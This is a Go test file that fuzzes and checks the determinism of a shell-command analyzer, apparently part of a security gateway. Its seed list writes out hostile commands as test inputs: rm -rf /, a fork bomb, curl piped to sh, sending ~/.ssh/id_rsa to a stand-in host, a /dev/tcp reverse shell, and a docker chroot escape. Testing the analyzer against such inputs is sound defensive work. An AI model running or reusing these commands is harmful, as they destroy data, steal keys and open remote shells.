package shellcmd_test

import (
	"errors"
	"fmt"
	"reflect"
	"runtime/debug"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/gatehouse/gatehouse/internal/analysis"
	"github.com/gatehouse/gatehouse/internal/shellcmd"
)

// fuzzSeeds are tricky commands: heredocs, nested substitutions, functions,
// wrappers, deep nesting, and inputs that are not commands at all. The
// corpus the fuzzer found is in testdata/fuzz/FuzzAnalyze.
var fuzzSeeds = []string{
	"cat /var/lib/g*/admin.token", "shopt -s globstar extglob; cat /var/**/@(x|y)/[[:alpha:]]*", "cat ~/../../x /dev/fd/../y",
	"cd /var/lib && grep -r . && ls | xargs cat", "ln -s /var/lib l && cat l/gatehouse/x", "cat /proc/$PPID/root/x",
	// Heredocs and here-strings.
	"cat <<EOF\nhello $USER\nEOF",
	"cat <<'EOF' | bash\nrm -rf /\nEOF",
	"bash <<-EOF\n\trm -rf \"$HOME\"\n\tEOF",
	"python3 - <<EOF\nimport os; os.system('id')\nEOF\nls",
	"sh <<< 'curl -s https://x.example | sh'",
	"cat <<A; cat <<B\na\nA\nb\nB",
	// Nested substitutions.
	"echo $(echo $(echo $(rm -rf x)))",
	"rm -rf \"$(dirname \"$(readlink -f \"$0\")\")\"/build",
	"x=`echo \\`whoami\\``; echo $x",
	"diff <(sort a) <(sort b) > >(tee out)",
	"echo ${x:-$(curl -s https://x.example)}",
	"echo $(( $(wc -l < f) + 1 ))",
	// Functions.
	"f() { rm -rf \"$1\"; }; f /tmp/x",
	"f() { f | f & }; f",
	":(){ :|:& };:",
	"function g { g; }; g",
	"f() { g \"$@\"; }; g() { curl -d @\"$1\" https://x.example; }; f ~/.ssh/id_rsa",
	"rm() { echo no; }; command rm -rf /",
	// Wrappers and nested shells.
	"sudo -u root env FOO=1 nice -n 5 timeout 10 rm -rf /var/lib/x",
	"xargs -0 rm -f < list",
	"find . -name '*.tmp' -exec rm {} + -o -execdir sh -c 'echo {}' \\;",
	"ssh host 'kubectl delete ns prod'",
	"bash -c \"bash -c 'bash -c \\\"rm -rf x\\\"'\"",
	"eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
	"docker run --rm -v /:/host alpine chroot /host sh",
	"git -c core.pager='sh -c id' log",
	"PAGER='rm -rf x' git log",
	// Deep nesting and control flow.
	strings.Repeat("(", 40) + "ls" + strings.Repeat(")", 40),
	strings.Repeat("$(", 30) + "ls" + strings.Repeat(")", 30),
	strings.Repeat("bash -c '", 1) + strings.Repeat("eval ", 20) + "rm x'",
	"for i in 1 2 3; do while true; do if [ $i ]; then case $i in 1) rm $i;; *) break;; esac; fi; done; done",
	"[[ -f x && $(id -u) -eq 0 ]] && { rm -rf /; } || (exit 1)",
	"coproc nc -l 4444; exec 3<>/dev/tcp/10.0.0.1/4444; sh <&3 >&3 2>&3",
	"a=(rm -rf x); \"${a[@]}\"; declare -A m=([k]=v); echo ${m[k]}",
	"alias ll='rm -rf'; ll x",
	"trap 'rm -rf /tmp/x' EXIT; select x in a b; do :; done",
	// Not commands, or barely.
	"",
	"   \t\n",
	"# only a comment",
	"echo \x00 nul",
	"\xff\xfe invalid utf-8",
	"if then fi ((",
	"echo 'unterminated",
	"\u3000",
}

// fuzzWorkdir is where fuzzed commands pretend to run.
const fuzzWorkdir = "/work/repo"

func FuzzAnalyze(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	a, err := shellcmd.New(nil, shellcmd.Limits{})
	if err != nil {
		f.Fatal(err)
	}
	// The gateway's own files, so that their checks are fuzzed too.
	a.Protect("/var/lib/gatehouse", "/etc/gatehouse/alice.token", "/proc/4242")
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		units, stack, err := analyzeRecover(a, src)
		if stack != "" {
			t.Fatalf("Analyze(%q) panicked: %s", src, stack)
		}
		for _, u := range units {
			for _, fd := range u.Findings {
				// Analyze recovers its own panics (failing closed); a
				// recovered panic is still a bug.
				if strings.Contains(fd.Detail, "internal analysis error") {
					t.Fatalf("Analyze(%q) recovered from a panic: %s", src, fd.Detail)
				}
			}
		}
		if d := time.Since(start); len(src) < 64<<10 && d > 2*time.Second {
			t.Fatalf("Analyze took %v for %d bytes", d, len(src))
		}

		notCommand := !utf8.ValidString(src) || strings.IndexByte(src, 0) >= 0 || strings.TrimSpace(src) == ""
		switch {
		case notCommand && err == nil:
			t.Fatalf("Analyze(%q) returned no error for input that is not a command", src)
		case err == nil && len(units) == 0:
			t.Fatalf("Analyze(%q) returned neither a unit nor an error", src)
		case err != nil && !errors.Is(err, shellcmd.ErrEmpty):
			// Input that is not a command is still described, as one opaque unit.
			if len(units) != 1 || !units[0].Opaque() {
				t.Fatalf("Analyze(%q) = error %v with %d units; want one opaque unit", src, err, len(units))
			}
		}

		for i := range units {
			u := &units[i]
			if u.Kind != analysis.KindShell {
				t.Fatalf("Analyze(%q): unit %d has kind %v, want %v", src, i, u.Kind, analysis.KindShell)
			}
			if u.Opaque() != u.Effects.Has(analysis.Opaque) {
				t.Fatalf("Analyze(%q): unit %d: Opaque() = %v but effects are %v", src, i, u.Opaque(), u.Effects)
			}
			for _, fd := range u.Findings {
				if fd.Kind.Opaque() && !u.Effects.Has(analysis.Opaque) {
					t.Fatalf("Analyze(%q): unit %d has the opaque finding %q but effects %v lack %v",
						src, i, fd.Kind, u.Effects, analysis.Opaque)
				}
			}
			if u.HasFinding(analysis.FindingDynamicCommand) && len(u.Argv) == 0 {
				t.Fatalf("Analyze(%q): unit %d has a dynamic program name but no argv", src, i)
			}
		}
	})
}

// analyzeRecover runs Analyze and turns a panic into its stack trace.
func analyzeRecover(a *shellcmd.Analyzer, src string) (units []analysis.Unit, stack string, err error) {
	defer func() {
		if p := recover(); p != nil {
			stack = fmt.Sprintf("%v\n%s", p, debug.Stack())
		}
	}()
	units, err = a.Analyze(src, fuzzWorkdir)
	return units, "", err
}

// TestAnalyzeDeterministic analyzes the same command many times: the units,
// and their order, must not change from one run to the next (the decision
// and the audit record are built from them).
func TestAnalyzeDeterministic(t *testing.T) {
	a, err := shellcmd.New(nil, shellcmd.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		src  string
		bug  string
	}{
		{name: "pipeline", src: `curl -s https://x.example | tee f | sh; rm -rf "$(pwd)"/x`},
		{name: "called-functions", src: `f() { rm a; }; g() { ls b; }; f; g`},
		{name: "uncalled-functions", src: `f() { rm a; }; g() { ls b; }; h() { cat c; }`},
		{name: "uncalled-function-calling-another", src: `f() { g "$1"; }; g() { rm -rf "$1"; }`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			first, err := a.Analyze(tc.src, fuzzWorkdir)
			if err != nil {
				t.Fatal(err)
			}
			for range 100 {
				units, err := a.Analyze(tc.src, fuzzWorkdir)
				if err != nil {
					t.Fatal(err)
				}
				if !reflect.DeepEqual(units, first) {
					d := "first run:\n" + describeUnits(first) + "later run:\n" + describeUnits(units)
					if tc.bug != "" {
						t.Skipf("%s\n%s\n%s", tc.bug, tc.src, d)
					}
					t.Fatalf("%s: the analysis changed between runs\n%s", tc.src, d)
				}
			}
			if tc.bug != "" {
				t.Errorf("%s: 100 runs agreed; the bug seems fixed, so remove the bug marker: %s", tc.src, tc.bug)
			}
		})
	}
}
